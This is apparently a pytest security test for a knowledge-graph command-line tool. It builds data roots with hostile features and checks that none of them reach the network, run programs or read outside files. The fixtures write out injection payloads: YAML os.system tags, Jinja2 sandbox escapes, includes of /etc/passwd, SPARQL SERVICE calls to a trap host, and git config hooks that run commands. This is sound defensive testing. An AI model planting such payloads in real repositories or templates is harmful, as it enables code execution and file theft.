"""A root that is not ours reaches no network, starts no program and touches nothing outside."""

from __future__ import annotations

import importlib.util
import json
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from audited_run import CONNECTS, READS, STARTS, WRITES, read_log
from conftest import CACHE, LONGEST, ROOT, Run, environment
from connection_trap import Trap

TESTS = Path(__file__).resolve().parents[1]
SECRET = "a secret beside the root"
BOTH = "{en: a, zh-Hant: b}"
TEXTS = "".join(f"#+ {key}: {BOTH}\n" for key in ("title", "description"))
CHECK = "#+ severity: violation\n" + "".join(
    f"#+ {key}: {{en: a, zh-Hant: b}}\n" for key in ("title", "problem", "solution")
)
SERVICE = r"OPTIONAL { ?focus <urn:e:\u0061#> ?x . ?focus ex:a\# ?y } SERVICE <http://TRAP/x> { ?a ?b ?c }"
SHAPE = """
@prefix sh: <http://www.w3.org/ns/shacl#> . @prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> . @prefix shape: <https://w3id.org/msme-kg/shape/> .
shape:X a sh:NodeShape ; sh:targetSubjectsOf rdfs:label ; %s .
"""
SOURCE = """
<https://w3id.org/msme-kg/source/example-org> a <https://w3id.org/msme-kg/ontology#Source> ;
    <http://www.w3.org/2000/01/rdf-schema#label> "example.org"@en , "example.org"@zh-Hant ;
    <https://schema.org/url> <https://example.org/> .
"""
INITIAL = {"Makefile": "all:\n\ttouch MARK\n", "conftest.py": "open('MARK', 'w')\n", ".envrc": "touch MARK\n"}
FEATURES: dict[str, dict[str, str]] = {
    "check": {"queries/checks/x.rq": f"{CHECK}SELECT ?focus {{ {SERVICE} }}"},
    "check-from": {"queries/checks/x.rq": CHECK + "SELECT ?focus\nFROM <http://TRAP/x> { ?focus ?p ?o }"},
    "canned": {"queries/actors/members.rq": f"{TEXTS}SELECT ?focus {{ {SERVICE} }}"},
    "new": {
        "queries/templates/source.rq": f"{TEXTS}#+ params:\n#+   url: {{type: address, help: {BOTH}}}\n"
        f"CONSTRUCT {{ ?focus ?p ?o }} WHERE {{ VALUES ?in_url {{ UNDEF }}  # param\n {SERVICE} }}"
    },
    "export": {"queries/export/catalog.rq": f"{TEXTS}CONSTRUCT {{ ?focus ?p ?o }} WHERE {{ {SERVICE} }}"},
    "header": {"queries/actors/members.rq": "#+ title: !!python/object/apply:os.system [touch MARK]\nASK {}"},
    "shape": {
        "ontology/shapes/X.ttl": SHAPE
        % r'sh:sparql [ sh:select "SELECT $this { SERVIC\\u0045 <http://TRAP/x> { ?a ?b ?c } }" ]'
    },
    "shape-path": {
        "ontology/shapes/X.ttl": SHAPE % "sh:property [ sh:path rdfs:label ; sh:sparql [ sh:select "
        "'SELECT $this { $this $PATH ?value BIND(<http://TRAP/x> AS ?x) SERVICE?x{ ?a ?b ?c } }' ] ]"
    },
    "shape-script": {
        "ontology/shapes/X.ttl": SHAPE
        % 'sh:js [ sh:jsFunctionName "f" ; sh:jsLibrary [ sh:jsLibraryURL "http://TRAP/x" ] ]'
    },
    "imports": {
        "ontology/shapes/X.ttl": SHAPE % "sh:nodeKind sh:IRI"
        + "<http://TRAP/o> a owl:Ontology ; owl:imports <http://TRAP/x> , <file:///etc/passwd> .",
        "data/x.ttl": "<http://TRAP/d> <http://www.w3.org/ns/shacl#shapesGraph> <http://TRAP/x> .",
    },
    "template": {"briefing/en/opening.j2": "{% include '../../../secret.txt' %}{% include '/etc/passwd' %}"},
    "template-code": {
        "briefing/en/opening.j2": "{{ ''.__class__.__mro__[1].__subclasses__() }}"
        "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch MARK') }}"
    },
    "git": {
        ".git/config": "[core]\n fsmonitor = touch MARK\n sshCommand = touch MARK\n pager = touch MARK\n"
        " editor = touch MARK\n askPass = touch MARK\n hooksPath = .hooks\n"
        ' [diff]\n external = touch MARK\n [diff "x"]\n textconv = touch MARK\n command = touch MARK\n'
        ' [filter "x"]\n clean = touch MARK\n smudge = touch MARK\n process = touch MARK\n'
        " [alias]\n diff = !touch MARK\n [credential]\n helper = !touch MARK\n"
        ' [url "http://TRAP/"]\n insteadOf = http://a.example/\n [user]\n name = $(touch MARK)\n',
        ".gitattributes": "* filter=x diff=x\n",
        ".hooks/post-index-change": "#!/bin/sh\ntouch MARK\n",
    },
}
COMMANDS = {
    "check": [(4, "validate"), (4, "check --add new.ttl"), (4, "validate new.ttl")],
    "check-from": [(0, "validate")],
    "canned": [(4, "query members")],
    "new": [(4, "new source --url https://example.org/")],
    "export": [(4, "portal OUT")],
    "header": [(3, "query"), (3, "query members"), (3, "portal OUT")],
    "shape": [(4, "validate"), (4, "apply --add new.ttl --yes")],
    "shape-path": [(4, "validate")],
    "shape-script": [(3, "validate")],
    "imports": [(1, "validate"), (0, "export nquads"), (0, "fmt")],
    "template": [(3, "brief --as-of 2023-08-01"), (3, "brief --as-of 2023-08-01 --format docx -o OUT")],
    "template-code": [(3, "brief --as-of 2023-08-01 --format html")],
    "git": [(0, "diff HEAD"), (0, "validate --changed-since HEAD"), (0, "apply --add new.ttl --yes")],
}
"""The exit code of each command line, by feature of the root."""
READABLE = [
    *(ROOT / name for name in ("msme_kg", ".venv", "tests/audited_run.py")),
    *map(
        Path,
        (sys.prefix, sys.base_prefix, sys.exec_prefix, CACHE, "/proc/self", "/dev", "/usr/share/zoneinfo"),
    ),
    *(
        Path(spec.origin).parents[1]
        for name in ("click", "numpy")
        if (spec := importlib.util.find_spec(name)) and spec.origin
    ),
    *map(Path, ("/etc/localtime", "/etc/mime.types", "/usr/lib/locale", "/usr/lib/ssl", "/etc/ssl")),
]


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    server = Trap()
    yield server
    server.close()


@pytest.fixture
def build_root(tmp_path: Path, copy_of_graph: Path, trap: Trap) -> Callable[[str], Path]:
    """Return a function that builds a root with a hostile feature; it contains a repository of git."""

    def build(feature: str) -> Path:
        (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
        shutil.copytree(ROOT / "briefing", copy_of_graph / "briefing")
        subprocess.run(["git", "init", "-q"], cwd=copy_of_graph, check=True)
        for words in (["add", "."], ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x"]):
            subprocess.run(["git", *words], cwd=copy_of_graph, check=True)
        for name, text in (INITIAL | FEATURES[feature]).items():
            path = copy_of_graph / name
            path.parent.mkdir(parents=True, exist_ok=True)
            filled = text.replace("TRAP", trap.address).replace("MARK", str(tmp_path / "mark"))
            path.write_text(filled, encoding="utf-8")
            path.chmod(0o755)
        return copy_of_graph

    return build


def is_below(path: str, *folders: Path) -> bool:
    return any(Path(path).is_relative_to(folder) for folder in folders)


@pytest.mark.parametrize(
    ("feature", "code", "command"), [(key, *one) for key, every in COMMANDS.items() for one in every]
)
def test_a_hostile_root_touches_nothing_else(
    feature: str, code: int, command: str, build_root: Callable[[str], Path], tmp_path: Path, trap: Trap
) -> None:
    root = build_root(feature)
    folder = tmp_path / "work"
    folder.mkdir()
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    (folder / "new.ttl").write_text(SOURCE, encoding="utf-8")
    log = tmp_path / "log"
    words = command.replace("OUT", str(folder / "out")).split()
    ended = subprocess.run(
        [sys.executable, str(TESTS / "audited_run.py"), str(log), "--root", str(root), *words],
        capture_output=True,
        cwd=folder,
        env=environment(more={"TMPDIR": str(temporary)}),
        timeout=LONGEST,
        check=False,
    )
    events = read_log(log)
    assert ended.returncode == code, ended.stderr.decode()
    assert feature != "check" or b"queries/checks/x.rq:5: error: SERVICE" in ended.stderr
    assert SECRET not in (ended.stdout + ended.stderr).decode()
    assert trap.connections == 0
    assert not (tmp_path / "mark").exists()
    assert [subject for kind, subject in events if kind == CONNECTS] == []
    assert {subject for kind, subject in events if kind == STARTS} <= {"git"}
    written = [subject for kind, subject in events if kind == WRITES]
    assert [path for path in written if not is_below(path, root, folder, temporary, Path(CACHE))] == []
    if words[0] not in {"apply", "fmt"}:
        assert [path for path in written if is_below(path, root)] == []
    searched = {str(ROOT), str(TESTS)}  # for modules
    read = {subject for kind, subject in events if kind == READS} - searched
    assert [path for path in read if not is_below(path, root, folder, temporary, *READABLE)] == []


def test_the_audit_sees_what_it_is_for(tmp_path: Path, trap: Trap) -> None:
    log = tmp_path / "log"
    script = (
        "import sys, audited_run, socket, subprocess\n"
        "import msme_kg.cli.main as main\n"
        f"main.main = lambda: (open({str(tmp_path / 'x')!r}, 'w'), open('/etc/hostname'), "
        f"subprocess.run(['true']), socket.create_connection({tuple(trap.address.split(':'))!r}))\n"
        f"sys.argv = ['x', {str(log)!r}]\naudited_run.main()"
    )
    before = trap.connections
    subprocess.run(
        [sys.executable, "-c", script],
        cwd=TESTS,
        env=environment() | {"PYTHONPATH": f"{TESTS}:{ROOT}"},
        check=True,
    )
    events = read_log(log)
    assert {(WRITES, str(tmp_path / "x")), (READS, "/etc/hostname"), (STARTS, "true")} <= set(events)
    assert CONNECTS in {kind for kind, _ in events}
    assert trap.connections == before + 1


SKIPPED = [
    "data/a.TTL",
    "data/actors/b.nt",
    "data/c.trig",
    "data/d.ttl.txt",
    "data/.e.ttl",
    "ontology/f.jsonld",
]


def test_files_that_no_command_reads_are_named(run: Run, copy_of_graph: Path) -> None:
    for name in (*SKIPPED, "data/README.txt", "data/notes.md"):
        (copy_of_graph / name).write_text("<http://e/a> <http://e/b> 1 .\n")
    ended = run("--root", copy_of_graph, "validate", "--format", "json")
    found = json.loads(ended.out)["findings"]
    assert ended.code == 0
    assert [(one["file"], one["severity"], one["shape"]) for one in found] == [
        (name, "warning", "lint/skipped-file") for name in sorted(SKIPPED)
    ]
    new = copy_of_graph.parent / "new.ttl"
    new.write_text(
        "<https://w3id.org/msme-kg/member/us> <http://www.w3.org/2004/02/skos/core#altLabel> 'US'@en ."
    )
    for words in (("fmt", "--check"), ("check", "--add", new), ("apply", "--yes", "--add", new)):
        ended = run("--root", copy_of_graph, *words)
        assert [
            line.partition(": warning: ")[0] for line in ended.err.splitlines() if ": warning: " in line
        ] == sorted(SKIPPED)
